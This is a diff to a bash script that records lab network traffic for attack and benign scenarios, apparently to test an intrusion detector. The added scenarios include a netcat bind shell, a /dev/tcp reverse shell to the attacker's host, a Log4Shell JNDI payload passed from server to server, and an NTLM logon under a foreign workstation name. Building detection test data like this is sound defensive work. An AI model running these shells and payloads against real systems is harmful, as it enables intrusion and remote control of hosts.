@@ -10,6 +10,7 @@ source "$RECORD_DIR/domain.sh"
 ATTACKER=10.20.1.66
 ADMIN=10.20.1.30
 SERVER=10.20.2.41
+SECOND=10.20.1.32
 
 old_server() {
     hospital clients servers
@@ -98,7 +99,7 @@ record_benign_web_templates() {
     run admin curl -s -A 'ward-agent/${project.version}' http://10.20.2.80/
     run admin curl -s -g 'http://10.20.2.80/page1.html?name=${user.name}&sort=${column}'
     run admin curl -s -g 'http://10.20.2.80/page2.html?filter=%24%7Benv:WARD%7D'
-    near_miss lateral.code_fetched_by_log
+    near_miss lateral.code_fetched_by_log lateral.exploit_spread
     contains "http.request" -eq 3
     finish
 }
@@ -245,6 +246,128 @@ record_remote_support() {
     done
     expect "{technique: T1219, actor: $ATTACKER, what: relays of remote support programs}"
     contains "tls.handshake.type == 1" -eq 3
+    finish
+}
+
+# a_server: a workstation of the attacker, one of an administrator, and a server with nothing on it.
+a_server() {
+    programs bash coreutils netcat-openbsd
+    hospital clients servers
+    host server servers $SERVER
+    host attacker clients $ATTACKER
+    host admin clients $ADMIN
+}
+
+record_lateral_shell_served() {
+    begin lateral-shell-served attack "What an exploit leaves behind: bash on a port of a server, without any login (netcat and a named pipe). The attacker types three commands into it."
+    a_server
+    mkfifo "$WORK/pipe"
+    service server bash -c "nc -l 4444 <$WORK/pipe | bash -i >$WORK/pipe 2>&1"
+    sleep 1
+    capture clients
+    shell attacker "(sleep 1; echo id; sleep 1; echo uname -a; sleep 1; echo exit; sleep 1) | nc -w 3 $SERVER 4444"
+    expect "{technique: T1059, actor: $ATTACKER, what: commands typed into a shell without a login, target: $SERVER}"
+    contains 'tcp contains "uid="' -ge 1
+    finish
+}
+
+record_lateral_shell_home() {
+    begin lateral-shell-home attack "A server that was broken into connects to the attacker's host and hands its bash over, past the firewall that stops connections from outside; the attacker types two commands."
+    a_server
+    service attacker bash -c "(sleep 4; echo hostname; sleep 1; echo ls -l /; sleep 1; echo exit; sleep 1) | nc -l 4445"
+    sleep 1
+    capture clients
+    shell server "bash -i >&/dev/tcp/$ATTACKER/4445 0>&1"
+    expect "{technique: T1059, actor: $ATTACKER, what: shell handed over, target: $SERVER}"
+    contains 'tcp contains "no job control"' -ge 1
+    finish
+}
+
+record_benign_transcript() {
+    begin benign-transcript benign "An administrator sends a supplier the transcript of what was typed on a Windows server and on a Linux one, as files over bare connections (netcat); then the two write each other some lines the same way."
+    a_server
+    printf 'Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>ipconfig\r\n\r\nWindows IP Configuration\r\n\r\nC:\\Windows\\system32>exit\r\n' >"$WORK/windows.txt"
+    printf 'root@srv-ward:~# df -h\nFilesystem      Size  Used Avail Use%% Mounted on\n/dev/sda1        40G   12G   26G  32%% /\nroot@srv-ward:~# exit\n' >"$WORK/linux.txt"
+    service server bash -c "nc -l 9001 >$WORK/got; nc -l 9002 >$WORK/got; (sleep 2; echo 'thank you, I see it'; sleep 2; echo 'please run df again tomorrow') | nc -l 9003"
+    sleep 1
+    capture clients
+    run admin bash -c "nc -N -w 2 $SERVER 9001 <$WORK/windows.txt"
+    sleep 1
+    run admin bash -c "nc -N -w 2 $SERVER 9002 <$WORK/linux.txt"
+    sleep 1
+    shell admin "(sleep 1; echo 'did it arrive?'; sleep 2; echo 'the disk is full at night: ls /var shows it'; sleep 2) | nc -w 3 $SERVER 9003"
+    near_miss lateral.shell_served lateral.shell_handed_over
+    contains 'tcp contains "Microsoft Windows"' -eq 1
+    contains 'tcp.dstport == 9003 && tcp.len > 0' -ge 2
+    finish
+}
+
+record_lateral_exploit_spread() {
+    begin lateral-exploit-spread attack "An expression that makes a log fetch code (Log4Shell) goes from host to host within minutes: the attacker sends it to a server, that server to a second one, and the second to a workstation, as a worm would."
+    programs curl nginx-light
+    hospital clients servers
+    host server servers $SERVER
+    host second clients $SECOND
+    host third clients 10.20.1.31
+    host attacker clients $ATTACKER
+    nginx_on server $SERVER
+    local name
+    for name in second third; do
+        sed -i -e "s/listen [0-9.]*:80;/listen ${HOST_ADDRESS[$name]}:80;/" -e "s/listen [0-9.]*:443/listen ${HOST_ADDRESS[$name]}:443/" "$WORK/nginx.conf"
+        cp "$WORK/nginx.conf" "$WORK/nginx-$name.conf"
+        sed -i "s#pid .*#pid $WORK/nginx-$name.pid;#" "$WORK/nginx-$name.conf"
+        service $name nginx -c "$WORK/nginx-$name.conf"
+        answering $name "${HOST_ADDRESS[$name]}" 80
+    done
+    capture clients
+    local send="curl -s -o /dev/null -A \${jndi:ldap://$ATTACKER:1389/ward}"
+    run attacker $send http://$SERVER/
+    sleep 1
+    run server $send http://$SECOND/
+    sleep 1
+    run second $send http://10.20.1.31/
+    expect "{technique: T1210, actor: $SERVER, kind: worm, target: $SECOND}"
+    expect "{technique: T1190, actor: $ATTACKER, what: expression that makes a log fetch code, target: $SERVER}"
+    contains 'http.user_agent contains "jndi"' -ge 2
+    finish
+}
+
+record_relay_foreign_name() {
+    begin relay-foreign-name attack "Half of a relayed logon: a workstation says in NetBIOS what it is called, and so does the attacker's host; then the attacker logs on to the server in the workstation's name, as a relay does that passes the logon on. The victim's half was not recorded."
+    named_workstations
+    capture clients
+    run attacker smbclient --netbiosname ATTACK-1 -p 139 -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
+    run admin smbclient --netbiosname DESK-7 -p 139 -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
+    run attacker smbclient --netbiosname DESK-7 -m SMB2_10 -U "administrator%$LOCAL_PASSWORD" //$SERVER/ward -c ls
+    expect "{technique: T1557.001, actor: $ATTACKER, kind: logon under a foreign name, target: $SERVER}"
+    contains 'nbss.type == 0x81' -ge 2
+    contains 'ntlmssp.auth.hostname == "DESK-7"' -ge 2
+    finish
+}
+
+# named_workstations: a server that answers on the port of NetBIOS, too.
+named_workstations() {
+    hospital clients servers
+    host server servers $SERVER
+    host attacker clients $ATTACKER
+    host admin clients $ADMIN
+    WINDOWS_MORE=$'smb ports = 445 139\ndisable netbios = no' windows_on server SRV-LAB $SERVER
+    answering server $SERVER 139
+}
+
+record_benign_own_names() {
+    begin benign-own-names benign "Two workstations log on to a server, each under its own name: over NetBIOS and directly, one of them in small letters and with its domain."
+    named_workstations
+    capture clients
+    local option
+    for option in "--netbiosname DESK-7 -p 139" "--netbiosname DESK-7" "--netbiosname desk-7"; do
+        run admin smbclient $option -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
+    done
+    for option in "--netbiosname RADIO-2 -p 139" "--netbiosname RADIO-2"; do
+        run attacker smbclient $option -m SMB2_10 -U "nurse%$LOCAL_PASSWORD" //$SERVER/ward -c ls
+    done
+    near_miss identity.foreign_workstation
+    contains 'ntlmssp.messagetype == 3' -ge 5
     finish
 }
 
